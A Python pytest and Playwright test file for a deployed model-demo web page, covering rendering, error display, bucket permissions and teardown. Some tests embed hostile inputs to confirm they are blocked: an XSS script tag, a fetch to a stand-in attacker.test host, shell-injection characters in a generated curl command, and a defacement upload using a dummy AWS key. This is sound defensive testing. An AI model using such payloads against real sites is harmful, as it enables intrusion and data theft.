"""The demo page on the local cloud: in a bucket, by utils/deploy.py, and served by `make serve`."""

import json
import signal
import subprocess
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import boto3
import pytest
from botocore.exceptions import ClientError
from playwright.sync_api import Page, expect

from tests.conftest import ROOT, Cloud, free_port, make_serve
from tests.demo.conftest import finish_moves, seen

DEPLOY = ROOT / "utils/deploy.py"
NAMES = ["--stack", "with-page"]


@pytest.fixture(scope="module")
def page_url(cloud: Cloud) -> Iterator[str]:
    """Deploy both models and the page; yield the URL of the page."""
    packages: list[str | Path] = ["--sm-cnn", cloud.packages["sm_cnn"], "--kim-cnn", cloud.packages["kim_cnn"]]
    ran = cloud.run(DEPLOY, "up", *NAMES, *packages, "--page")
    yield dict(line.split(" ", 1) for line in ran.stdout.splitlines())["PageUrl"]
    cloud.run(DEPLOY, "down", "--yes", *NAMES)


def test_both_models_answer_and_candidates_move(held_moves: Page, page_url: str) -> None:
    page = held_moves
    page.goto(page_url)
    expect(page.locator(".label")).to_have_text("very positive")
    expect(page.locator("#kim_cnn .took")).to_contain_text("lookup")
    answer = "Leonardo da Vinci painted the Mona Lisa in the sixteenth century"
    expect(page.locator(".ranking li").first).to_contain_text(answer)
    assert seen(page)[-1] == answer
    finish_moves(page)
    assert seen(page)[0] == answer
    shares = [float(text.strip("<%")) for text in page.locator(".ranking .percent").all_inner_texts()]
    assert shares == sorted(shares, reverse=True)


def test_only_invented_words_of_the_samples_are_unknown(page: Page, page_url: str) -> None:
    page.goto(page_url)
    expect(page.locator(".samples button")).to_have_count(9)
    for answer in (".label", ".ranking"):
        page.locator(answer).wait_for()  # to the first samples
    unknown = []
    for button in page.locator(".samples button").all():
        with page.expect_response(lambda response: response.request.method == "POST") as answered:
            button.click()
        unknown += answered.value.json()["unknown_words"]
    assert unknown == ["snarkleberry"]
    page.get_by_role("button", name="snarkleberry").click()
    expect(page.locator("#kim_cnn .no-vector")).to_have_text(["snarkleberry"])


def test_an_error_of_the_api_is_shown_and_can_be_corrected_by_keyboard(page: Page, page_url: str) -> None:
    page.goto(page_url)
    page.get_by_label("Text", exact=True).fill("word " * 30_000)
    page.keyboard.press("Enter")
    expect(page.locator(".problem")).to_contain_text("413: the body is over 65536 bytes; send less at a time")
    page.keyboard.press("ControlOrMeta+a")
    page.keyboard.type("<script>alert('a very good movie')</script>")
    page.keyboard.press("Enter")
    expect(page.locator("#kim_cnn .text")).to_have_text("<script>alert('a very good movie')</script>")
    expect(page.locator(".problem")).to_have_count(0)


def test_a_published_page_asks_its_own_api_whatever_its_address_says(page: Page, page_url: str) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(f"{page_url}?api=http://attacker.test/x")
    page.get_by_label("Text", exact=True).fill("a good movie")
    page.get_by_role("button", name="Classify").click()
    expect(page.locator(".label")).to_be_visible()
    expect(page.get_by_label("API URL")).not_to_be_editable()
    assert [url for url in asked if "attacker" in url and not url.startswith(page_url)] == []
    script = "fetch('http://attacker.test/x').then(() => 'sent', () => 'refused')"
    assert page.evaluate(script) == "refused"
    policy = page.locator("meta[http-equiv]").get_attribute("content") or ""
    endpoint = "/".join(page_url.split("/")[:3])
    assert f"connect-src {endpoint};" in policy


def test_the_curl_command_works_in_a_shell(page: Page, page_url: str) -> None:
    page.goto(page_url)
    page.get_by_label("Text", exact=True).fill('it\'s a "very" good movie & $HOME `ls`')
    page.keyboard.press("Enter")
    expect(page.locator("#kim_cnn .text")).to_contain_text("$HOME")  # not the first sample
    page.locator("#kim_cnn .code summary").click()
    command = page.locator("#kim_cnn pre").first.inner_text()
    ran = subprocess.run(["sh", "-c", f"{command} --silent --fail"], check=True, capture_output=True, text=True)
    assert json.loads(ran.stdout)["label"] == page.locator(".label").inner_text().lower()


def test_anyone_can_read_the_page_and_nothing_else(cloud: Cloud, page_url: str) -> None:
    with urllib.request.urlopen(page_url) as answer:
        assert answer.headers["Content-Type"] == "text/html; charset=utf-8"
    with urllib.request.urlopen(page_url.replace("index.html", "openapi.yaml")) as answer:
        assert answer.headers["Content-Type"] == "text/plain; charset=utf-8"
    endpoint = cloud.environment["AWS_ENDPOINT_URL"]
    bucket = page_url.removeprefix(f"{endpoint}/").partition("/")[0]
    buckets = [found["Name"] for found in cloud.client("s3").list_buckets()["Buckets"]]
    packages = next(name for name in buckets if "sam-cli" in name)
    keys = [found["Key"] for found in cloud.client("s3").list_objects_v2(Bucket=packages)["Contents"]]
    assert keys
    for closed in (f"{endpoint}/{bucket}", *(f"{endpoint}/{packages}/{key}" for key in keys)):
        with pytest.raises(urllib.error.HTTPError, match="403"):
            urllib.request.urlopen(closed)
    stranger = boto3.client(
        "s3", endpoint_url=endpoint, aws_access_key_id="AKIAIOSFODNN7EXAMPLE", aws_secret_access_key="none"
    )
    with pytest.raises(ClientError):
        stranger.put_object(Bucket=bucket, Key="index.html", Body=b"defaced")


def test_down_removes_the_page_and_its_bucket(cloud: Cloud) -> None:
    names = ["--stack", "page-to-go"]
    cloud.run(DEPLOY, "up", *names, "--kim-cnn", cloud.packages["kim_cnn"], "--page")
    cloud.run(DEPLOY, "down", "--yes", *names)
    left = [bucket["Name"] for bucket in cloud.client("s3").list_buckets()["Buckets"]]
    assert [name for name in left if name.startswith("page-to-go")] == []


def test_make_serve_prints_where_the_page_is_and_ends_clean(page: Page, tmp_path: Path) -> None:
    """The command of the Makefile: upload, package, deploy, both sample requests, then the page until Ctrl-C."""
    port = free_port()
    with make_serve(port, tmp_path / "log", signal.SIGINT) as url:
        page.goto(url)
        page.get_by_role("button", name="This isn't a good movie!").click()
        expect(page.locator(".label")).to_be_visible()
        expect(page.get_by_label("API URL")).to_have_value(url.partition("?api=")[2])
    for gone in (url, f"http://127.0.0.1:{port}/_ministack/health"):
        with pytest.raises(urllib.error.URLError, match="refused"):
            urllib.request.urlopen(gone, timeout=5)
